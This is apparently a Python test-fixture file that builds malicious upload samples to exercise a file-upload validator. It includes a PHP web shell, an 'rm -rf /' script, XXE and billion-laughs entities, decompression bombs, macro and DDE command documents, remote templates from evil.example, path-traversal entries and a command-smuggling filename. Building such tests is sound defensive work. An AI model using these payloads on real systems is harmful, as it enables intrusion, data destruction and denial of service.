"""Files nobody of good will uploads, built in code: (name, content) by a word for what each of them tries.

`REFUSED` never enters by either door. `HARMLESS` may enter by one of them, because what is stored is not what came
(pictures) or what is handed out runs nowhere (documents).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image as Pillow

from tests.articles.sample_files import (
    object_stream,
    package,
    package_parts,
    pdf,
    picture,
    png_chunk,
    png_claiming,
    relations,
    zipped,
)

SCRIPT = b"<script>fetch('/quan-tri/')</script>"
PHP = b"<?php system($_GET['c']); ?>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT
EXE = b"MZ\x90\0" + b"\0" * 56 + b"\x80\0\0\0PE\0\0" + b"\0" * 300
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 300
SHELL = b"#!/bin/sh\nrm -rf /\n"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
DOCTYPE = "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><w:document>&x;</w:document>"
LAUGHS = "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>"
VBA_TYPES = package_parts("docx")["[Content_Types].xml"].replace(
    "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>'
)
JPEG, PNG, GIF, WEBP = picture("JPEG"), picture("PNG"), picture("GIF", mode="P"), picture("WEBP")
AVIF = picture("AVIF")


def _patched(content: bytes, *, flag: int) -> bytes:
    """Every entry of an archive with a flag set, in its own head and in the list at the end."""
    found = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = found.find(mark)
        while at >= 0:
            found[at + offset] |= flag
            at = found.find(mark, at + 4)
    return bytes(found)


def _flat_bomb() -> bytes:
    return package("docx", {"word/media/image1.bmp": b"\0" * 60_000_000})


def _big_bomb() -> bytes:
    """Each part below every limit, all together too much."""
    return package("xlsx", {f"xl/worksheets/sheet{number}.xml": b"<r/>" * 1_900_000 for number in range(42)})


def _lying_size() -> bytes:
    """An entry that says it is small and is not."""
    content = bytearray(package("docx", {"word/big.xml": b"A" * 5_000_000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = content.rfind(mark)
        content[at + offset : at + offset + 4] = struct.pack("<I", 10)
    return bytes(content)


def _nested_bomb() -> bytes:
    inner = zipped({"0.xml": b"\0" * 5_000_000})
    for number in range(4):
        inner = zipped({f"{number}.zip": inner, f"{number}b.zip": inner})
    return package("docx", {"word/embeddings/a.bin": inner})


def _overlapping_bomb() -> bytes:
    """Many entries in the list, all of them the same bytes."""
    content = package("docx", {"word/kernel.xml": b"A" * 1_000_000})
    begin = content.rfind(b"PK\x01\x02")
    end = content.rfind(b"PK\x05\x06")
    entry = content[begin:end]
    name = b"word/kernel.xml"
    copies = b"".join(entry.replace(name, b"word/kerne%05d" % number) for number in range(1000))
    tail = bytearray(content[end:])
    tail[12:16] = struct.pack("<I", struct.unpack("<I", tail[12:16])[0] + len(copies))
    return content[:end] + copies + bytes(tail)


def _many_entries() -> bytes:
    return package("docx", {f"word/{number}.xml": "" for number in range(6_000)})


def _hidden_between() -> bytes:
    """An archive with a program lying between two entries, named in no list."""
    content = package("docx")
    at = content.find(b"PK\x03\x04", 4)
    moved = bytearray(content[:at] + EXE + content[at:])
    entry, count = bytes(moved).find(b"PK\x01\x02"), 0
    while entry >= 0:
        if count:
            offset = struct.unpack("<I", moved[entry + 42 : entry + 46])[0]
            moved[entry + 42 : entry + 46] = struct.pack("<I", offset + len(EXE))
        count += 1
        entry = bytes(moved).find(b"PK\x01\x02", entry + 4)
    end = bytes(moved).rfind(b"PK\x05\x06")
    begin = struct.unpack("<I", moved[end + 16 : end + 20])[0]
    moved[end + 16 : end + 20] = struct.pack("<I", begin + len(EXE))
    return bytes(moved)


def _two_of_a_name() -> bytes:
    buffer = io.BytesIO(package("docx"))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("WORD/document.xml", "<other/>")
    return buffer.getvalue()


def _ole(word: str) -> bytes:
    return OLD_OFFICE + word.encode("utf-16-le") + b"\0" * 100


def _far(kind: str, target: str) -> dict:
    row = f'<Relationship Id="r" Type="http://schemas/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/settings.xml.rels": relations(row)}


def _animated(kind: str) -> bytes:
    buffer = io.BytesIO()
    frames = [Pillow.new("RGB", (40, 30), colour) for colour in ("red", "blue")]
    frames[0].save(buffer, kind, save_all=True, append_images=frames[1:], duration=100)
    return buffer.getvalue()


def _with_profile_bomb() -> bytes:
    data = b"x\0\0" + zlib.compress(b"\0" * 50_000_000)
    return PNG[:33] + png_chunk(b"iCCP", data) + PNG[33:]


def _with_text(word: bytes) -> bytes:
    return PNG[:33] + png_chunk(b"tEXt", b"Comment\0" + word) + PNG[33:]


def _with_comment(word: bytes) -> bytes:
    return JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(word) + 2) + word + JPEG[2:]


def _cyan() -> bytes:
    return picture("JPEG", mode="CMYK")


def _deep_grey() -> bytes:
    return picture("PNG", mode="I;16")


REFUSED: dict[str, Callable[[], tuple[str, bytes]]] = {
    # Another kind of content than the name says
    "html as pdf": lambda: ("a.pdf", HTML),
    "html as docx": lambda: ("a.docx", HTML),
    "html as png": lambda: ("a.png", HTML),
    "html as jpg": lambda: ("a.jpg", HTML),
    "script as pdf": lambda: ("a.pdf", b"alert(document.cookie)"),
    "exe as pdf": lambda: ("a.pdf", EXE),
    "exe as docx": lambda: ("a.docx", EXE),
    "exe as png": lambda: ("a.png", EXE),
    "elf as pdf": lambda: ("a.pdf", ELF),
    "elf as xlsx": lambda: ("a.xlsx", ELF),
    "php as png": lambda: ("a.png", PHP),
    "php as pdf": lambda: ("a.pdf", PHP),
    "shell as png": lambda: ("a.png", SHELL),
    "shell as odt": lambda: ("a.odt", SHELL),
    "eicar as pdf": lambda: ("a.pdf", EICAR),
    "eicar as png": lambda: ("a.png", EICAR),
    "svg": lambda: ("a.svg", SVG),
    "svg as png": lambda: ("a.png", SVG),
    "svg as webp": lambda: ("a.webp", SVG),
    "svg as pdf": lambda: ("a.pdf", SVG),
    "ico as png": lambda: ("a.png", picture("ICO", (16, 16))),
    "tiff as jpg": lambda: ("a.jpg", picture("TIFF")),
    "bmp as png": lambda: ("a.png", picture("BMP")),
    "psd as png": lambda: ("a.png", b"8BPS\0\x01" + b"\0" * 200),
    "gif": lambda: ("a.gif", GIF),
    "gif as png": lambda: ("a.png", GIF),
    "jpeg as png": lambda: ("a.png", JPEG),
    "png as jpeg": lambda: ("a.jpeg", PNG),
    "avif": lambda: ("a.avif", AVIF),
    "avif as webp": lambda: ("a.webp", AVIF),
    "heic": lambda: ("a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 40),
    "heic as jpg": lambda: ("a.jpg", b"\0\0\0\x18ftypheic" + b"\0" * 40),
    "pdf as docx": lambda: ("a.docx", pdf()),
    "docx as pdf": lambda: ("a.pdf", package("docx")),
    "xlsx as docx": lambda: ("a.docx", package("xlsx")),
    "odt as docx": lambda: ("a.docx", package("odt")),
    "ods as odt": lambda: ("a.odt", package("ods")),
    "odt named later": lambda: ("a.odt", zipped(dict(reversed(package_parts("odt").items())))),
    "plain zip as docx": lambda: ("a.docx", zipped({"a.txt": "x"})),
    # Two files in one
    "gif and script": lambda: ("a.png", b"GIF89a/*" + GIF[8:] + b"*/=1;alert(1)//"),
    "gif and script as pdf": lambda: ("a.pdf", b"GIF89a/*" + GIF[8:] + b"*/=1;alert(1)//"),
    "pdf after html": lambda: ("a.pdf", HTML + pdf()),
    "pdf and zip": lambda: ("a.pdf", pdf() + zipped({"a.exe": EXE})),
    "zip that ends like a pdf": lambda: ("a.pdf", pdf() + zipped({"a.txt": "x"})[:-2] + b"\x06\0%%EOF\n"),
    "pdf with html behind": lambda: ("a.pdf", pdf() + HTML),
    "pdf head only": lambda: ("a.pdf", b"%PDF-1.7\n" + HTML + b"\n%%EOF"),
    "docx after html": lambda: ("a.docx", HTML + package("docx")),
    "docx with html behind": lambda: ("a.docx", package("docx") + HTML),
    "docx with a program between": lambda: ("a.docx", _hidden_between()),
    "docx with two of a name": lambda: ("a.docx", _two_of_a_name()),
    # Bombs
    "zip bomb": lambda: ("a.docx", _flat_bomb()),
    "zip bomb of many parts": lambda: ("a.xlsx", _big_bomb()),
    "zip bomb in layers": lambda: ("a.docx", _nested_bomb()),
    "zip bomb of one piece": lambda: ("a.docx", _overlapping_bomb()),
    "zip with a lying size": lambda: ("a.docx", _lying_size()),
    "zip of many entries": lambda: ("a.docx", _many_entries()),
    "pdf bomb": lambda: ("a.pdf", pdf(object_stream(b"\0" * 110_000_000))),
    "144 megapixels in few bytes": lambda: (
        "a.png",
        png_claiming(12_000, 12_000, b"\0" * 1501 * 12_000, bits=1, colour=0),
    ),
    "144 megapixels in the head": lambda: ("a.png", png_claiming(12_000, 12_000)),
    "gigapixels in the head": lambda: ("a.png", png_claiming(60_000, 60_000)),
    "no pixels": lambda: ("a.png", png_claiming(0, 0)),
    "one endless line": lambda: ("a.png", png_claiming(2**31 - 1, 1)),
    "jpeg of giants": lambda: (
        "a.jpg",
        JPEG.replace(struct.pack(">HH", 48, 64), struct.pack(">HH", 65_000, 65_000), 1),
    ),
    "profile bomb": lambda: ("a.png", _with_profile_bomb()),
    # Broken
    "empty pdf": lambda: ("a.pdf", b""),
    "empty png": lambda: ("a.png", b""),
    "empty docx": lambda: ("a.docx", b""),
    "cut jpeg": lambda: ("a.jpg", picture("JPEG", (400, 300))[:300]),
    "cut png": lambda: ("a.png", picture("PNG", (400, 300))[:60]),
    "cut webp": lambda: ("a.webp", WEBP[: len(WEBP) // 2]),
    "cut gif": lambda: ("a.gif", GIF[:20]),
    "cut avif": lambda: ("a.avif", AVIF[: len(AVIF) // 2]),
    "cut docx": lambda: ("a.docx", package("docx")[:-30]),
    "cut pdf": lambda: ("a.pdf", pdf()[:-8]),
    "spoiled jpeg": lambda: ("a.jpg", b"\xff\xd8\xff\xe0" + b"A" * 500),
    "spoiled docx": lambda: ("a.docx", package("docx").replace(b"PK\x01\x02", b"PK\x01\x03", 1)),
    "docx with a spoiled part": lambda: ("a.docx", _spoiled_part()),
    # What runs, and what is locked
    "macros": lambda: ("a.docx", package("docx", {"word/vbaProject.bin": OLD_OFFICE})),
    "macros by another name": lambda: ("a.docx", package("docx", {"[Content_Types].xml": VBA_TYPES})),
    "macros by a relation": lambda: (
        "a.docx",
        package(
            "docx",
            {
                "word/_rels/document.xml.rels": relations(
                    '<Relationship Type="x/vba&#80;roject" Target="a.bin"/>'
                )
            },
        ),
    ),
    "macros in an object": lambda: (
        "a.docx",
        package("docx", {"word/embeddings/o.bin": _ole("_VBA_PROJECT")}),
    ),
    "macros of a sheet": lambda: ("a.xlsx", package("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"})),
    "macros inside a sheet inside": lambda: (
        "a.pptx",
        package("pptx", {"ppt/embeddings/t.xlsx": package("xlsx", {"xl/vbaProject.bin": OLD_OFFICE})}),
    ),
    "docm": lambda: ("a.docm", package("docx", {"word/vbaProject.bin": OLD_OFFICE})),
    "docm as docx": lambda: (
        "a.docx",
        zipped(
            {
                **package_parts("docx"),
                "[Content_Types].xml": "<Types ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>",
            }
        ),
    ),
    "odt with Basic": lambda: ("a.odt", package("odt", {"Basic/Standard/Module1.xml": "<x/>"})),
    "odt with a script": lambda: ("a.odt", package("odt", {"Scripts/python/a.xml": "<x/>"})),
    "odt with an event": lambda: (
        "a.odt",
        package("odt", {"content.xml": "<e xlink:href='vnd.sun.star.script:a.py$b?language=Python'/>"}),
    ),
    "command in a cell": lambda: (
        "a.xlsx",
        package("xlsx", {"xl/externalLinks/l.xml": '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}),
    ),
    "template from elsewhere": lambda: (
        "a.docx",
        package("docx", _far("attachedTemplate", "https://evil.example/t.dotm")),
    ),
    "object from elsewhere": lambda: (
        "a.docx",
        package("docx", _far("oleObject", "\\\\evil.example\\share\\o")),
    ),
    "program inside a docx": lambda: ("a.docx", package("docx", {"word/media/x.exe": EXE})),
    "program as a picture inside": lambda: ("a.docx", package("docx", {"word/media/image1.png": EXE})),
    "eicar inside a docx": lambda: ("a.docx", package("docx", {"word/media/eicar.com": EICAR})),
    "packed file inside": lambda: (
        "a.docx",
        package("docx", {"word/embeddings/o.bin": _ole("\x01Ole10Native")}),
    ),
    "entity from a file": lambda: ("a.docx", package("docx", {"word/document.xml": DOCTYPE})),
    "entity in the types": lambda: ("a.docx", package("docx", {"[Content_Types].xml": DOCTYPE})),
    "entity in UTF-16": lambda: ("a.docx", package("docx", {"word/document.xml": DOCTYPE.encode("utf-16")})),
    "entities that laugh": lambda: ("a.odt", package("odt", {"content.xml": LAUGHS})),
    "entry with a way out": lambda: ("a.docx", package("docx", {"../../etc/cron.d/x": "x"})),
    "entry from the root": lambda: ("a.docx", package("docx", {"/etc/passwd": "x"})),
    "entry of a drive": lambda: ("a.docx", package("docx", {"C:\\x": "x"})),
    "zip with a password": lambda: ("a.docx", _patched(package("docx"), flag=1)),
    "docx with a password": lambda: ("a.docx", OLD_OFFICE),
    "odt with a password": lambda: (
        "a.odt",
        package("odt", {"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
    ),
    "pdf with a password": lambda: ("a.pdf", pdf(trailer=b"/Encrypt 9 0 R")),
    "pdf with a password spelled oddly": lambda: ("a.pdf", pdf(trailer=b"/Encr#79pt<</Filter/Standard>>")),
    "pdf with a script": lambda: ("a.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>")),
    "pdf with a script spelled oddly": lambda: ("a.pdf", pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>")),
    "pdf with a script in hexadecimal": lambda: ("a.pdf", pdf(b"<</S/Rendition/JS<6170702E616C657274>>>")),
    "pdf with a script pushed away": lambda: (
        "a.pdf",
        pdf(b"<</S/Rendition/JS" + b" " * 9000 + b"(app.alert(1))>>"),
    ),
    "pdf with a packed script": lambda: (
        "a.pdf",
        pdf(object_stream(b"4 0 <</S/JavaScript/JS(app.alert(1))>>")),
    ),
    "pdf with a packed script out of sight": lambda: (
        "a.pdf",
        pdf(object_stream(b"4 0 <</S/JavaScript>>").replace(b"/N 1", b"/N 1" + b" " * 9000)),
    ),
    "pdf that starts a program": lambda: ("a.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>")),
    "pdf with a form that runs": lambda: ("a.pdf", pdf(b"<</AcroForm<</XFA 5 0 R>>>>")),
    "old word": lambda: ("a.doc", OLD_OFFICE),
    "old excel": lambda: ("a.xls", OLD_OFFICE),
    "zip": lambda: ("a.zip", zipped({"a.txt": "x"})),
    "moving webp": lambda: ("a.webp", _animated("WEBP")),
    "moving png": lambda: ("a.png", _animated("PNG")),
    # Names
    "html by name": lambda: ("a.html", PNG),
    "php behind png": lambda: ("a.png.php", PNG),
    "exe behind pdf": lambda: ("a.pdf.exe", pdf()),
    "ending turned round": lambda: ("a\u202egnp.exe", PNG),
    "no ending": lambda: ("tep", pdf()),
    "only dots": lambda: ("....", PNG),
    "nothing but an ending with a dot": lambda: (".png.", PNG),
}


def _spoiled_part() -> bytes:
    content = bytearray(package("docx"))
    at = content.rfind(b"PK\x03\x04")
    content[at + 60] ^= 0xFF
    return bytes(content)


PICTURE_NAMES = {
    "a picture up the tree": "../../../etc/passwd.png",
    "a picture up the tree of Windows": "..\\..\\windows\\x.png",
    "php before png": "a.php.png",
    "a picture turned round": "anh\u202eexe.png",
    "a picture of 300 letters": "x" * 300 + ".png",
    "a device of Windows": "CON.png",
    "a face": "😀.png",
    "a command": "a b;rm -rf $(HOME).PNG",
    "quotes": "a\"b'c.png",
}
DOCUMENT_NAMES = {
    name.replace("picture", "document"): file.lower().replace(".png", ".pdf")
    for name, file in PICTURE_NAMES.items()
}

# By the door of pictures.
HARMLESS_PICTURES: dict[str, Callable[[], tuple[str, bytes]]] = {
    "png with html in its words": lambda: ("a.png", _with_text(HTML)),
    "png with html behind": lambda: ("a.png", PNG + HTML),
    "jpeg with php in its words": lambda: ("a.jpg", _with_comment(PHP)),
    "jpeg with php behind": lambda: ("a.jpg", JPEG + PHP),
    "jpeg with a zip behind": lambda: ("a.jpg", JPEG + zipped({"a.exe": EXE})),
    "webp with eicar behind": lambda: ("a.webp", WEBP + EICAR),
    "jpeg for printers": lambda: ("a.jpg", _cyan()),
    "png of sixteen bits": lambda: ("a.png", _deep_grey()),
    **{name: lambda file=file: (file, PNG) for name, file in PICTURE_NAMES.items()},
}
# By the door of documents.
HARMLESS_DOCUMENTS: dict[str, Callable[[], tuple[str, bytes]]] = {
    "pdf with html in a text": lambda: ("a.pdf", pdf(b"(" + HTML + b")")),
    "pdf with eicar in a text": lambda: (
        "a.pdf",
        pdf(b"(" + EICAR.replace(b"(", b"\\(").replace(b")", b"\\)") + b")"),
    ),
    "docx with html in a text": lambda: (
        "a.docx",
        package("docx", {"word/document.xml": "<w:t>&lt;script&gt;</w:t>"}),
    ),
    **{name: lambda file=file: (file, pdf()) for name, file in DOCUMENT_NAMES.items()},
}
